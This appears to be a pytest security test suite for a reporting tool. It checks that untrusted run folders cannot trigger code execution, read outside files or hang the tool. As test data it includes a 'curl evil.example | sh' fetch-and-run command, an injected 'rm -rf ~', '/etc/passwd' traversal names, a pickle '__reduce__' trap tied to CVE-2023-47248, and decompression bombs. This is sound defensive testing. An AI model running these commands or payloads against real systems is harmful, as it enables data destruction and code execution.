"""A run folder from a stranger is data: nothing of it runs, nothing outside is read, nothing hangs."""

from __future__ import annotations

import json
import os
import pickle
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyarrow import parquet

from reports import items, markdown, narrative, shape, untrusted
from reports.errors import ReportError
from reports.folder import SUMS, RunFolder
from reports.journal import journal
from reports.records import OutcomeRecord
from reports.results import validate
from reports.storage import read_events
from suites.cli import invoke
from suites.outcome_store import OutcomeStore
from suites.terminal_journal import show_course
from tests.reports import scenario

FIXTURE = Path(__file__).parent / "data" / "results-v1.json"
SECRET = "the-secret-of-another-folder"

VERBS: tuple[Callable[[Path], list[str]], ...] = (
    lambda run: ["report", str(run)],
    lambda run: ["compare", str(run), str(run)],
    lambda run: ["show", str(run)],
)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return scenario.attack(tmp_path_factory.mktemp("made"), count=12).path


@pytest.fixture
def run(made: Path, tmp_path: Path) -> Path:
    """A finished run that a test may spoil."""
    return Path(shutil.copytree(made, tmp_path / "runs" / made.name))


def _reseal(run: Path) -> None:
    """New sums, so that a spoilt file looks as it was sealed."""
    folder = RunFolder(run)
    from reports.hashing import sha256_file

    lines = [f"{sha256_file(path)}  {name}\n" for name, path in folder._summed()]
    (run / SUMS).write_text("".join(lines))


def _codes(run: Path) -> list[int]:
    return [invoke(verb(run)) for verb in VERBS]


def test_a_run_that_nobody_touched_opens(run: Path) -> None:
    assert _codes(run) == [0, 0, 0]


@pytest.mark.parametrize(
    "name", ["events.jsonl", "results.json", "manifest.json", "items.parquet", "plan.toml", SUMS]
)
def test_a_link_out_of_the_folder_is_refused_and_not_read(
    name: str, run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside"
    outside.write_text(f'{{"event": "{SECRET}"}}\n')
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to(outside)
    assert _codes(run) == [2, 2, 2]
    shown = capsys.readouterr()
    assert "is a symbolic link that leaves the run folder" in shown.err
    assert SECRET not in shown.out + shown.err


@pytest.mark.parametrize("target", ["..", "/", "/etc", "/dev", "../../../../../etc"])
def test_a_folder_that_is_a_link_out_is_refused(target: str, run: Path) -> None:
    (run / "models").symlink_to(target)
    with pytest.raises(ReportError, match="symbolic link that leaves"):
        RunFolder.open(run)


def test_a_link_deep_inside_that_leaves_is_refused(run: Path) -> None:
    (run / "a" / "b").mkdir(parents=True)
    (run / "a" / "b" / "c").symlink_to("../../../other")
    with pytest.raises(ReportError, match="symbolic link that leaves"):
        RunFolder.open(run)


def test_links_within_the_folder_and_to_it_are_let_be(run: Path, tmp_path: Path) -> None:
    (run / "kept").mkdir()
    (run / "kept" / "events").symlink_to("../events.jsonl")
    (run / "kept" / "round").symlink_to("round")
    latest = tmp_path / "latest"
    latest.symlink_to(run)
    assert RunFolder.open(latest).results()["kind"] == "attack"


def test_a_sibling_whose_name_begins_alike_is_outside(run: Path) -> None:
    sibling = run.with_name(f"{run.name}-2")
    sibling.mkdir()
    (run / "notes").symlink_to(sibling)
    with pytest.raises(ReportError, match="symbolic link that leaves"):
        RunFolder.open(run)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
@pytest.mark.parametrize("name", ["events.jsonl", "results.json", "items.parquet", SUMS])
def test_a_pipe_in_the_place_of_a_file_does_not_hang(name: str, run: Path) -> None:
    (run / name).unlink()
    os.mkfifo(run / name)
    assert 4 not in _codes(run)


def test_names_in_the_sums_are_never_followed(
    run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "outside").write_text(SECRET)
    names = ["../../outside", "../../../etc/passwd", "/etc/passwd", "", ".", "a\x00b", "\x1b[31m"]
    with (run / SUMS).open("a") as file:
        file.writelines(f"{'0' * 64}  {name}\n" for name in names)
    hashed: list[Path] = []
    from reports import folder

    monkeypatch.setattr(folder, "sha256_file", lambda path: hashed.append(path) or "")
    problems = RunFolder.open(run).verify_sums()
    assert all(path.resolve().is_relative_to(run.resolve()) for path in hashed)
    assert "../../outside: missing" in problems
    assert "/etc/passwd: missing" in problems
    assert "␛[31m: missing" in problems
    assert all("\x1b" not in problem and "\x00" not in problem for problem in problems)


def test_a_name_with_line_ends_cannot_forge_a_sum(run: Path) -> None:
    (run / "a\nb\u2028c").write_text("x")
    problems = RunFolder.open(run).verify_sums()
    assert len(problems) == 1
    assert problems[0].endswith(f"not in {SUMS}")
    assert "\n" not in problems[0]


def test_a_file_that_is_summed_twice_is_told(run: Path) -> None:
    with (run / SUMS).open("a") as file:
        file.write(f"{'0' * 64}  plan.toml\n{'1' * 64}  plan.toml\n")
    assert RunFolder.open(run).verify_sums() == [f"{SUMS}: line 6 is damaged"]


def test_a_command_of_a_stranger_is_not_offered_to_be_typed(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (run / SUMS).unlink()
    for command in (["curl", "evil.example", "|", "sh"], ["withstand", "audit; rm -rf ~"], 3, [3]):
        started = {"event": "started", "name": "x", "kind": "attack", "command": command}
        (run / "events.jsonl").write_text(json.dumps(started) + "\n")
        assert invoke(["report", str(run)]) == 3
    shown = capsys.readouterr().err
    assert "curl" not in shown
    assert "withstand 'audit; rm -rf ~'" in shown


JSON = (
    "[" * 200_000,
    '{"schema": ' * 200_000,
    '{"a": ' + "[" * 100 + "]" * 100 + "}",
    '{"schema": "withstand/results", "version": NaN}',
    '{"version": Infinity}',
    '{"version": 1e999}',
    '{"version": ' + "9" * 5000 + "}",
    '{"version": ' + "9" * 100 + "}",
    '{"version": 1, "version": 2}',
    "\ufeff{}",
    "",
    "null",
    '"results"',
    "{'a': 1}",
    '{"a": "\x00"}',
)


@pytest.mark.parametrize("content", JSON, ids=range(len(JSON)))
@pytest.mark.parametrize("name", ["results.json", "manifest.json"])
def test_json_that_is_not_what_it_should_be_is_named(content: str, name: str, run: Path) -> None:
    (run / name).write_text(content)
    _reseal(run)
    with pytest.raises(ReportError, match=name.replace(".", r"\.")):
        RunFolder.open(run).results() if name == "results.json" else RunFolder.open(run).manifest()
    assert 4 not in _codes(run)


@pytest.mark.parametrize("content", [line for line in JSON if line != "\ufeff{}"])
def test_an_event_that_is_not_what_it_should_be_is_named(content: str, tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    path.write_text(f'{{"event": "started"}}\n{content}\n')
    with pytest.raises(ReportError, match="line 2 is damaged"):
        list(read_events(path))


def test_a_line_without_end_is_not_read_to_its_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(untrusted, "LONGEST_LINE", 1000)
    path = tmp_path / "events.jsonl"
    with path.open("wb") as file:
        file.write(b'{"event": "started"}\n')
        file.truncate(
            1024**4
        )  # a hole of a terabyte: it takes no room, and reading it would not end
    with pytest.raises(ReportError, match="line 2 is longer than the 1,000 bytes"):
        list(read_events(path))


def test_a_line_as_long_as_allowed_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    line = json.dumps({"event": "x", "text": "a" * 500}) + "\n"
    monkeypatch.setattr(untrusted, "LONGEST_LINE", len(line))
    (tmp_path / "events.jsonl").write_text(line * 2)
    assert len(list(read_events(tmp_path / "events.jsonl"))) == 2


def test_a_file_beyond_its_bound_is_not_read(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with (run / "results.json").open("ab") as file:
        file.truncate(1024**3)
    monkeypatch.setattr(untrusted, "LARGEST_JSON", 10_000)
    with pytest.raises(ReportError, match=r"larger than the 10,000 bytes"):
        RunFolder.open(run).results()


@pytest.mark.skipif(not hasattr(os.stat_result, "st_blocks"), reason="blocks are not known here")
def test_a_hole_with_a_length_is_refused(run: Path) -> None:
    with (run / "more.bin").open("wb") as file:
        file.truncate(1024**4)
    with pytest.raises(
        ReportError, match="says it has 1,099,511,627,776 bytes, of which 0 are there"
    ):
        RunFolder.open(run)


def test_more_values_than_a_machine_holds_are_not_made(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(untrusted, "MOST_VALUES", 1000)
    assert len(untrusted.loads("[" + "0," * 900 + "0]")) == 901
    for many in ("[" + "0," * 1000 + "0]", "[" + "[]," * 600 + "0]"):
        with pytest.raises(ValueError, match="more than 1,000 values"):
            untrusted.loads(many)


def test_more_files_than_a_run_has_are_not_walked(
    run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(untrusted, "MOST_FILES", 3)
    with pytest.raises(ReportError, match="holds more than 3 files"):
        RunFolder.open(run)


TOML = (
    "a = " + "[" * 100_000,
    "a." * 50_000 + "a = 1",
    "[" + "a." * 50_000 + "a]",
    "a = " + "9" * 5000,
    "a = 1\na = 2",
    "a",
    "a = '''" + "x" * 300_000,
)


@pytest.mark.parametrize("content", TOML, ids=range(len(TOML)))
def test_a_plan_that_is_not_what_it_should_be_is_named(content: str, run: Path) -> None:
    (run / "plan.toml").write_text(content)
    with pytest.raises(ReportError, match=r"plan\.toml"):
        RunFolder.open(run).plan()


def _table(**columns: pa.Array) -> pa.Table:
    """A table of one kind of items, with other columns put in."""
    size = len(next(iter(columns.values())))
    base = {
        "record": pa.array(["outcome"] * size),
        "check": pa.array(["attack:x@test"] * size),
        "example_id": pa.array([str(n) for n in range(size)]),
        "split": pa.array(["test"] * size),
        "label": pa.array([1] * size),
        "attack": pa.array(["x"] * size),
        "status": pa.array(["failed"] * size),
    }
    return pa.table({**base, **columns})


def _written(table: pa.Table, path: Path) -> Path:
    """Written as a stranger would: with our version, and no word of how Arrow held it."""
    with parquet.ParquetWriter(
        path, table.schema, compression="zstd", store_schema=False
    ) as writer:
        writer.write_table(table)
        writer.add_key_value_metadata({"withstand.items": items.VERSION.decode()})
    return path


def _repeated(text: str, count: int) -> pa.Array:
    return pa.DictionaryArray.from_arrays(pa.array([0] * count, pa.int32()), pa.array([text]))


def test_a_small_table_that_expands_to_hundreds_of_gigabytes_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(items, "EXPANDED", 10_000_000)
    bomb = _table(error=_repeated("x" * 1_000_000, 300_000))
    path = _written(bomb, tmp_path / items.NAME)
    assert path.stat().st_size < 10_000_000
    with pytest.raises(ReportError, match="expands to more than"):
        items.read(path)


def test_a_bomb_in_a_list_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(items, "EXPANDED", 10_000_000)
    values = _repeated("x" * 1_000_000, 20_000)
    offsets = pa.array(range(0, 20_001, 2000), pa.int32())
    bomb = _table(original=pa.ListArray.from_arrays(offsets, values))
    path = _written(bomb, tmp_path / items.NAME)
    with pytest.raises(ReportError, match="expands to more than"):
        items.read(path)


def test_rows_without_end_are_refused_by_their_number(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(items, "EXPANDED", 1000)
    monkeypatch.setattr(items, "RATIO", 0)
    path = _written(_table(words=pa.array([1, 2, 3])), tmp_path / items.NAME)
    with pytest.raises(ReportError, match="expands to more than"):
        items.read(path)


def test_a_column_that_nobody_asked_for_is_not_read(tmp_path: Path) -> None:
    bomb = _table(extra=_repeated("x" * 1_000_000, 20_000))
    path = _written(bomb, tmp_path / items.NAME)
    assert len(items.read(path)) == 20_000


def test_what_is_counted_of_a_table_is_what_it_takes(tmp_path: Path) -> None:
    from reports.items import _expanded

    texts = ["a" * n for n in (0, 5, 5, 1000, 7)]
    plain = pa.array(texts)
    held = plain.dictionary_encode()
    assert _expanded(held) == sum(map(len, texts)) + 8 * len(texts)
    assert _expanded(held.slice(3)) == 1007 + 8 * 2
    nested = pa.array([texts, None, ["a" * 9]])
    dictionary = pa.ListArray.from_arrays(nested.offsets, nested.flatten().dictionary_encode())
    assert _expanded(dictionary) == sum(map(len, texts)) + 9 + 8 * 6 + 8 * 3
    assert _expanded(dictionary.slice(2)) == 9 + 8 + 8


@pytest.mark.parametrize(
    "column",
    [
        {"label": pa.array(["one", "two"])},
        {"original": pa.array(["one", "two"])},
        {"changes": pa.array([[1], [2]])},
        {"status": pa.array([b"\xff", b"failed"])},
        {"status": pa.array([{"a": 1}, {"a": 2}])},
        {"status": pa.array(["won", "failed"])},
        {"attack": pa.array([None, "x"])},
        {"record": pa.array([None, "outcome"])},
        {"record": pa.array(["outcome", "pickle"])},
    ],
)
def test_a_table_of_other_things_is_named(column: dict[str, pa.Array], tmp_path: Path) -> None:
    path = _written(_table(**column), tmp_path / items.NAME)
    with pytest.raises(ReportError, match=r"items\.parquet"):
        items.read(path)


class _Trap:
    """What would leave a mark if anything unpickled it."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> Any:
        return (Path.touch, (self.mark,))


def test_nothing_is_unpickled(run: Path, tmp_path: Path) -> None:
    mark = tmp_path / "executed"
    trap = pickle.dumps(_Trap(mark))
    pickle.loads(trap)
    assert mark.exists()
    mark.unlink()
    # Arrow once unpickled a type that it found in a file's metadata (CVE-2023-47248).
    field = pa.field(
        "error",
        pa.binary(),
        metadata={
            "ARROW:extension:name": "arrow.py_extension_type",
            "ARROW:extension:metadata": trap,
        },
    )
    schema = pa.schema([field], metadata={b"withstand.items": items.VERSION})
    parquet.write_table(pa.table([pa.array([b"x"])], schema=schema), run / items.NAME)
    (run / "training_args.bin").write_bytes(trap)
    (run / "optimizer.pt").write_bytes(trap)
    (run / "conftest.py").write_text(f"open({str(mark)!r}, 'w')")
    _reseal(run)
    _codes(run)
    with pytest.raises(ReportError):
        items.read(run / items.NAME)
    assert not mark.exists()


JUNK: tuple[Any, ...] = (
    *(None, 0, -1, 3.5, 1e308, 10**38, True, "", "x" * 50, "\x00\u202e", "pass", "at_least"),
    *([], {}, [1], {"a": 1}, [[]], [None], {"value": None}, {"value": 1e308}),
)


def _places(value: Any, place: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [place] if place else []
    inner: Any = ()
    if isinstance(value, dict):
        inner = value.items()
    elif isinstance(value, list):
        inner = enumerate(value)
    for key, item in inner:
        found += _places(item, (*place, key))
    return found


PLACES = _places(json.loads(FIXTURE.read_text()))


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(place=st.sampled_from(PLACES), junk=st.sampled_from(JUNK), gone=st.booleans())
def test_results_with_anything_anywhere_are_drawn_or_refused(
    place: tuple[Any, ...], junk: Any, gone: bool
) -> None:
    results = json.loads(FIXTURE.read_text())
    inner = results
    for key in place[:-1]:
        inner = inner[key]
    if gone:
        del inner[place[-1]]
    else:
        inner[place[-1]] = junk
    try:
        validate(results)
        shape.check_results(results, "results.json")
    except ReportError:
        return
    markdown.render(narrative.build(results, None, {}))


MANIFEST_PLACES = _places(scenario.MANIFEST)


@given(place=st.sampled_from(MANIFEST_PLACES), junk=st.sampled_from(JUNK))
def test_a_manifest_with_anything_anywhere_is_drawn_or_refused(
    place: tuple[Any, ...], junk: Any
) -> None:
    manifest = json.loads(json.dumps(scenario.MANIFEST))
    inner = manifest
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = junk
    try:
        shape.check_manifest(manifest, "manifest.json")
    except ReportError:
        return
    narrative.build(json.loads(FIXTURE.read_text()), manifest, {})


EVENTS = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3)
    ),
    max_leaves=5,
)
NAMES = [
    "started",
    "resumed",
    "subject",
    "model",
    "stage",
    "epoch",
    "trial",
    "outcome",
    "prediction",
]
KEYS = [
    *("time", "name", "kind", "model", "path", "seconds", "epoch", "trial", "train_loss", "n"),
    *("validation_loss", "correct", "number", "state", "value", "settings", "status", "check"),
    *("example_id", "label", "predicted"),
]


@settings(max_examples=50)
@given(
    st.lists(
        st.tuples(st.sampled_from(NAMES), st.dictionaries(st.sampled_from(KEYS), EVENTS)),
        max_size=6,
    )
)
def test_the_course_of_a_run_is_told_of_any_events(found: list[tuple[str, dict[str, Any]]]) -> None:
    course = journal({**fields, "event": name} for name, fields in found)
    show_course(course, "run")
    json.dumps(course.to_dict(), allow_nan=False)


def test_a_slice_that_is_none_is_named(run: Path) -> None:
    from reports.slices import recorded

    for event in ({}, {"name": 1, "says": "", "ids": []}, {"name": "", "says": "", "ids": [1]}):
        with pytest.raises(ReportError, match="slice"):
            recorded([{"event": "slice", **event}])


def test_a_store_that_is_none_is_named(
    tmp_path: Path, outcome: Callable[..., OutcomeRecord]
) -> None:
    from attacks.outcomes import Example
    from attacks.text import Text

    path = tmp_path / "outcomes.sqlite"
    path.write_bytes(b"no database" * 1000)
    with pytest.raises(ReportError, match="not a store of outcomes"):
        OutcomeStore(path)
    path.unlink()
    store = OutcomeStore(path)
    example = Example("e1", Text.of("a fine film"), 1)
    store.write("c", "v", example, outcome())
    assert store.read("c", "v", [example]) == {"e1": outcome()}
    for row in ("[" * 100_000, "{}", "3", '{"status": NaN}'):
        store._connection.execute("UPDATE outcomes SET row = ?", (row,))
        with pytest.raises(ReportError, match="not a store of outcomes"):
            store.read("c", "v", [example])
    store.close()
